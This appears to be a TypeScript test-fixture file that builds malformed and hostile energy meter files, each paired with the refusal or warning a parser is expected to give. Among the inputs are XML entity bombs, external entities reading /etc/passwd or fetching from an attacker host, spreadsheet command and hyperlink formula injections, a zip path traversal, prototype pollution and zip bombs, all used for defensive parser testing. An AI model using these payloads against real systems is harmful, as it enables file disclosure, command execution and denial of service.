/** Hostile and broken meter files, made here: each with what must become of it. */
import { gzipSync, strToU8, zipSync } from 'fflate';
import { halfHours, octopusCsvFile, octopusPage } from '../fixtures/great-britain/great-britain.ts';
import { ENERGY, greenButtonFile, readings } from '../fixtures/green-button/green-button-file.ts';
import { day as nemDay, nem12File, stream } from '../fixtures/nem/nem-file.ts';
import { day, fallDay, HEADER, smtFile } from '../fixtures/smart-meter-texas/smart-meter-texas-file.ts';
import { opowerFile, sdgeFile } from '../fixtures/utility-tables/utility-tables.ts';

export interface HostileFile {
  readonly name: string;
  /** Code of the refusal without its `usage.`; or what must be said of a file that is read all the same. */
  readonly refused?: string;
  readonly says?: string;
  /** The file in pieces, made as it is read. */
  readonly bytes: () => Iterable<Uint8Array>;
  /** Too large for a test; the drill reads it. */
  readonly large?: true;
}

/** Blanks that a zip makes small. */
const BLANKS = new Uint8Array(9_000_000).fill(32);

type Content = string | Uint8Array | (() => Iterable<Uint8Array>);

const file = (name: string, content: Content, outcome: { refused: string } | { says: string }, large?: true): HostileFile => ({
  name,
  bytes: typeof content === 'function' ? content : () => [typeof content === 'string' ? strToU8(content) : content],
  ...outcome,
  ...(large && { large }),
});
const refused = (code: string) => ({ refused: code });
const says = (code: string) => ({ says: code });

/** The same piece `count` times between a head and a tail. */
function* repeated(head: string, piece: string, count: number, tail = ''): Iterable<Uint8Array> {
  yield strToU8(head);
  const bytes = strToU8(piece);
  for (let i = 0; i < count; i++) yield bytes;
  yield strToU8(tail);
}

const START = Date.UTC(2025, 5, 1, 5) / 1000;
const xml = greenButtonFile([{ readings: readings(START, 48) }]);
const smt = smtFile(day('06/14/2025'));
const row = (kwh: string): string => smtFile(day('06/14/2025', { kwh: (slot) => (slot === 7 ? kwh : '0.1') }));
const nem = nem12File(stream(), nemDay('20250105'));
const own = (rows: string): string => `start,kWh\n${rows}\n`;
const bomb = (levels: number): string => Array.from({ length: levels }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`).join('');
const OCTOPUS = halfHours('2025-06-01T00:00:00Z', '2025-06-02T00:00:00Z');
const MEGABYTE = ' '.repeat(1_000_000);

export const hostileFiles: readonly HostileFile[] = [
  // Not a meter file at all.
  file('nothing', '', refused('empty-file')),
  file('a byte order mark and nothing', '\uFEFF', refused('empty-file')),
  file('blanks for a megabyte', MEGABYTE, refused('unknown-format')),
  file('a login page saved as .csv', '<!DOCTYPE html><html><title>Sign in</title></html>', refused('web-page')),
  file('an error page behind a comment', '<!-- 503 --><html><body>down</body></html>', refused('web-page')),
  file('an error in JSON', '{"detail":"Authentication credentials were not provided."}', refused('unknown-format')),
  file('a workbook saved as .csv', strToU8('PK\u0003\u0004\u0014\u0000\u0006\u0000[Content_Types].xml', true), refused('spreadsheet')),
  file('an old workbook', strToU8('\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1', true), refused('spreadsheet')),
  file('a PDF bill', '%PDF-1.7\n1 0 obj', refused('binary-file')),
  file('a photograph of the meter', strToU8('\u00ff\u00d8\u00ff\u00e0\u0000\u0010JFIF', true), refused('binary-file')),
  file('a program', strToU8('MZ\u0090\u0000\u0003\u0000\u0000\u0000', true), refused('binary-file')),
  file(
    'noise',
    Uint8Array.from({ length: 4096 }, (_, i) => (i * 7919 + (i >> 3)) & 255),
    refused('binary-file'),
  ),
  file('a table of something else', 'date,temperature\n2025-01-01,3\n', refused('unknown-format')),
  file('a table of prices', 'valid_from,valid_to,rate_p_per_kwh\n2026-01-01T00:00Z,,20\n', refused('prices')),
  file('half a surrogate and broken UTF-8', Uint8Array.from([0xed, 0xa0, 0x80, 0xff, 0xfe, 0x2c, 0x0a]), refused('unknown-format')),

  // Archives.
  file('a locked zip', zipWith(6, 1), refused('archive-locked')),
  file('a cut-off zip', zipSync({ 'a.csv': strToU8(nem) }).slice(0, 60), refused('archive-broken')),
  file('a zip of nothing', zipSync({}), refused('archive-empty')),
  file(
    'a zip of a thousand files',
    zipSync(Object.fromEntries(Array.from({ length: 1000 }, (_, i) => [`${i}.csv`, strToU8('x')]))),
    refused('archive-several'),
  ),
  file(
    'a zip of bombs that are small each',
    () => [zipSync(Object.fromEntries(Array.from({ length: 60 }, (_, i) => [`${i}.csv`, BLANKS])), { level: 1 })],
    refused('too-large'),
    true,
  ),
  file('a zip of a meter file and a page', zipSync({ 'a.csv': strToU8(nem), 'b.htm': strToU8('<html></html>') }), says('file-skipped')),
  file(
    'a zip of a meter file and one cut off',
    zipSync({ 'a.csv': strToU8(nem), 'b.csv': strToU8(nem.slice(0, nem.length / 2)) }),
    refused('bad-row'),
  ),
  file(
    'a zip of file names that lie',
    zipSync({ 'a.csv': strToU8(nem), '"><script>\u0000\n.pdf': strToU8('%PDF-1.7') }),
    says('file-skipped'),
  ),
  file('a zip in a zip', zipSync({ 'a.zip': zipSync({ 'a.csv': strToU8(nem) }) }), refused('binary-file')),
  file('a path out of its folder in a zip', zipSync({ '../../etc/passwd': strToU8('root:x:0:0\n') }), refused('unknown-format')),
  file('a gzip of noughts', gzipSync(new Uint8Array(20_000_000)), refused('binary-file')),
  file('a gzip with a broken tail', gzipSync(strToU8(nem)).slice(0, -12), refused('archive-broken')),

  // XML as a weapon.
  file('an entity bomb', `<?xml version="1.0"?><!DOCTYPE f [<!ENTITY e0 "ha">${bomb(9)}]><feed>&e9;</feed>`, refused('xml-doctype')),
  file('an external entity', '<!DOCTYPE f [<!ENTITY x SYSTEM "file:///etc/passwd">]><feed>&x;</feed>', refused('xml-doctype')),
  file('an external DTD', '<!DOCTYPE feed SYSTEM "http://attacker.invalid/a.dtd"><feed/>', refused('xml-doctype')),
  file('a parameter entity', '<!DOCTYPE f [<!ENTITY % p SYSTEM "http://attacker.invalid/"> %p;]><feed/>', refused('xml-doctype')),
  file('tags nested 100,000 deep', `<feed>${'<a>'.repeat(100_000)}`, refused('xml-too-deep')),
  file('an attribute of a megabyte', `<feed a="${MEGABYTE}"></feed>`, refused('xml-broken')),
  file('a cut-off download', xml.slice(0, xml.length / 2), refused('xml-cut-off')),
  file('crossed tags', '<feed><entry><content></entry></content></feed>', refused('xml-broken')),
  file('a control character', xml.replace('<espi:value>1000', '<espi:value>1000\u0001'), refused('xml-broken')),
  file('NaN in XML', greenButtonFile([{ readings: [[START, 3600, 'NaN']] }]), refused('not-a-number')),
  file('Infinity in XML', greenButtonFile([{ readings: [[START, 3600, 'Infinity']] }]), refused('not-a-number')),
  file('a reading of 10^300', greenButtonFile([{ readings: [[START, 3600, '1e300']] }]), refused('not-a-number')),
  file(
    'a multiplier of 10^99',
    greenButtonFile([{ type: { ...ENERGY, powerOfTenMultiplier: 99 }, readings: readings(START, 2) }]),
    refused('unknown-unit'),
  ),
  file(
    'a reading that lasts no time',
    greenButtonFile([{ type: { ...ENERGY, intervalLength: 0 }, readings: [[START, 0, 5]] }]),
    refused('bad-row'),
  ),
  file('a reading in the year 292,277,026,596', greenButtonFile([{ readings: [['9223372036854775807', 3600, 5]] }]), refused('bad-date')),
  file('a reading in 1970', greenButtonFile([{ readings: [[0, 3600, 5]] }]), refused('bad-date')),
  file(
    'gas sold as electricity',
    greenButtonFile([{ type: { ...ENERGY, commodity: 7, uom: 169 }, readings: readings(START, 4) }]),
    says('other-fuel'),
  ),

  // Tables.
  file('NaN', row('NaN'), refused('not-a-number')),
  file('a formula', row("=cmd|' /C calc'!A0"), refused('not-a-number')),
  file('a formula for a meter', smt.replaceAll("'10000000000001234", '"=HYPERLINK(""http://attacker.invalid"")"'), says('gap-free')),
  file('a negative reading', row('-0.5'), refused('negative-reading')),
  file('an absurd reading', row('40'), says('absurd-reading')),
  file('an impossible reading', row('1e12'), refused('impossible-reading')),
  file('a decimal comma', row('"0,5"'), refused('not-a-number')),
  file('a thousands separator', row('"1,234.5"'), refused('not-a-number')),
  file('digits of another script', row('٠.٥'), refused('not-a-number')),
  file('a hexadecimal number', row('0x10'), refused('not-a-number')),
  file('a reading of 400 digits', row(`0.${'1'.repeat(400)}`), refused('not-a-number')),
  file('a header only', `${HEADER}\n`, refused('no-readings')),
  file('a column missing', smt.replace('USAGE_KWH,', '').replaceAll(',.1', ','), refused('column-missing')),
  file('a row cut short', smt.slice(0, -20), refused('bad-row')),
  file('the 31st of February', smtFile(day('02/31/2025')), refused('bad-date')),
  file('a month 13 and a day 13', smtFile(day('13/13/2025')), refused('bad-date')),
  file('the year 9999', smtFile(day('01/01/9999')), refused('bad-date')),
  file('the hour 25', smt.replaceAll(',05:00,', ',25:00,'), refused('bad-date')),
  file(
    'days that may be months',
    smtFile(...['03/01/2025', '04/01/2025', '05/01/2025', '06/01/2025'].map((date) => day(date))),
    refused('ambiguous-dates'),
  ),
  file('a day that runs backwards', smtFile(fallDay('06/14/2025')), refused('bad-row')),
  file('every row twice', smtFile(day('06/14/2025'), day('06/14/2025')), says('duplicate')),
  file('half of a day lost', smtFile(day('06/14/2025').slice(0, 20), day('06/14/2025').slice(70)), says('gap')),
  file('all readings blank', smtFile(day('06/14/2025', { kwh: () => '' })), refused('no-readings')),
  file(
    '300 meters',
    smtFile(...Array.from({ length: 300 }, (_, i) => day('06/14/2025', { esiid: String(10_000 + i) }).slice(0, 1))),
    refused('too-many-meters'),
  ),
  file('a quote that never closes', own(`2025-06-01T00:00,"1${'\n2025-06-01T01:00,1'.repeat(9000)}`), refused('line-too-long')),
  file('a line of 200,000 commas', own(','.repeat(200_000)), refused('no-readings')),
  file('some times with an offset', own('2025-06-01T00:00,1\n2025-06-01T01:00Z,1'), refused('bad-row')),
  file('an end before its start', 'start,end,kWh\n2025-06-01T01:00,2025-06-01T00:00,1\n', refused('bad-row')),
  file('rows a year apart', own('2024-06-01T00:00,1\n2025-06-01T00:00,1'), refused('bad-row')),
  file('a month twice', 'month,kWh\n2025-01,900\n2025-01,900\n', refused('month-repeated')),
  file('a hole between months', 'month,kWh\n2025-01,900\n2025-03,900\n', refused('bad-months')),
  file('500 months', `month,kWh\n${'2025-01,1\n'.repeat(500)}`, refused('bad-months')),
  file('a table of two headers', `start,kWh\nmonth,kWh\n2025-01,900\n`, refused('bad-date')),
  file('a table that two formats claim', `${'halfhour ending at,usage'}\n${'start,kWh'}\n`, refused('bad-date')),
  file('a preamble that never ends', `Meter Number,1\n${'Note,x\n'.repeat(100)}`, refused('unknown-format')),
  file('a portal table cut in a row', sdgeFile(['1/1/2025']).slice(0, -30), refused('bad-row')),
  file(
    'a unit nobody knows',
    opowerFile('2025-03-04', { header: 'TYPE,DATE,START TIME,END TIME,USAGE,UNITS', tail: '1,jigawatts' }),
    refused('unknown-unit'),
  ),

  // The other formats.
  file('a NEM12 file without its end', nem.replace('900\r\n', ''), refused('cut-off')),
  file('a NEM12 file without its start', nem.replace(/^.*\r\n/, ''), refused('bad-row')),
  file('a NEM12 day of 10,000 values', nem12File(stream(), `300,20250105,${'1,'.repeat(10_000)}A,,,,`), refused('bad-row')),
  file('a NEM12 interval length of 0', nem12File(stream({ minutes: 0 })), refused('bad-row')),
  file('a page cut off', JSON.stringify(octopusPage(OCTOPUS)).slice(0, -9), refused('bad-page')),
  file('a page nested 100,000 deep', `{"count":1,"results":${'['.repeat(100_000)}`, refused('bad-page')),
  file(
    'a page whose prototype is attacked',
    '{"count":1,"results":[{"__proto__":{"consumption":1},"interval_start":"x"}]}',
    refused('bad-entry'),
  ),
  file('half-hours out of order', octopusCsvFile([...OCTOPUS].sort((a, b) => (a % 7) - (b % 7))), says('gap-free')),
  file('monthly JSON of 10^400', '{"monthlyKwh":[1e400],"firstMonth":"2025-06"}', refused('not-a-number')),
  file('monthly JSON that is a list', '{"monthlyKwh":{"length":12},"firstMonth":"2025-06"}', refused('bad-json')),

  // Large ones.
  file('a table of 600 MB', () => repeated(`${HEADER}\n`, smtRows(), 8000), refused('too-many-readings'), true),
  file('a table of 600 MB without readings', () => repeated(`${HEADER}\n`, ',,,,,,,\n'.repeat(10_000), 8000), refused('too-large'), true),
  file(
    'a table of two million half-hours',
    () => repeated('halfhour ending at,usage\n', '2025-06-01 00:30:00+00:00,0.5\n'.repeat(10_000), 200),
    refused('too-many-readings'),
    true,
  ),
  file(
    'an XML file of two million readings',
    () => repeated('<feed><entry><content><IntervalBlock>', READING.repeat(10_000), 200),
    refused('too-many-readings'),
    true,
  ),
  file(
    'an XML file that never comes to its readings',
    () => repeated('<feed>', `<entry><title>${'x'.repeat(60_000)}</title></entry>`, 9000, '</feed>'),
    refused('too-large'),
    true,
  ),
  file(
    'a text of 300 MB in one tag',
    () => repeated('<feed><entry><title>', 'x'.repeat(100_000), 3000, '</title></entry></feed>'),
    refused('xml-broken'),
    true,
  ),
  file('a comment of 300 MB', () => repeated('<feed><!--', '<x>'.repeat(30_000), 3000, '--></feed>'), refused('xml-broken'), true),
  file('an attribute of 300 MB', () => repeated('<feed a="', 'x'.repeat(100_000), 3000, '"></feed>'), refused('xml-broken'), true),
  file(
    'ten million links',
    () => repeated('<feed><entry>', '<link rel="related" href="/a"/>'.repeat(10_000), 1000),
    refused('xml-cut-off'),
    true,
  ),
  file(
    'a million meters',
    () => repeated('<feed>', '<entry><content><UsagePoint/></content></entry>'.repeat(10_000), 100),
    refused('too-many-meters'),
    true,
  ),
  file('a line of 300 MB', () => repeated('start,kWh\n', '1'.repeat(100_000), 3000), refused('line-too-long'), true),
  file('JSON of 300 MB', () => repeated('{"count":1,"results":[', `${' '.repeat(99_999)}\n`, 3000), refused('bad-page'), true),
  file(
    'a zip bomb of 600 MB',
    () => [zipSync({ 'a.csv': filled('100,NEM12,1,2,3\n', '500,O,S,,\n', 600_000_000) })],
    refused('too-large'),
    true,
  ),
];

const READING =
  '<IntervalReading><timePeriod><duration>900</duration><start>1748736000</start></timePeriod><value>1</value></IntervalReading>';

/** The same piece after a head, up to a size [bytes]. */
function filled(head: string, piece: string, size: number): Uint8Array {
  const bytes = new Uint8Array(size);
  bytes.set(strToU8(head));
  let end = head.length;
  bytes.set(strToU8(piece), end);
  for (let length = piece.length; end + length < size; length *= 2) bytes.copyWithin(end + length, end, end + length);
  end = size - ((size - end) % piece.length);
  return bytes.subarray(0, end);
}

function smtRows(): string {
  return `${day('06/14/2025').join('\n')}\n`.repeat(12);
}

function zipWith(offset: number, byte: number): Uint8Array {
  const zip = zipSync({ 'a.csv': strToU8(nem) });
  zip[offset] = byte;
  return zip;
}
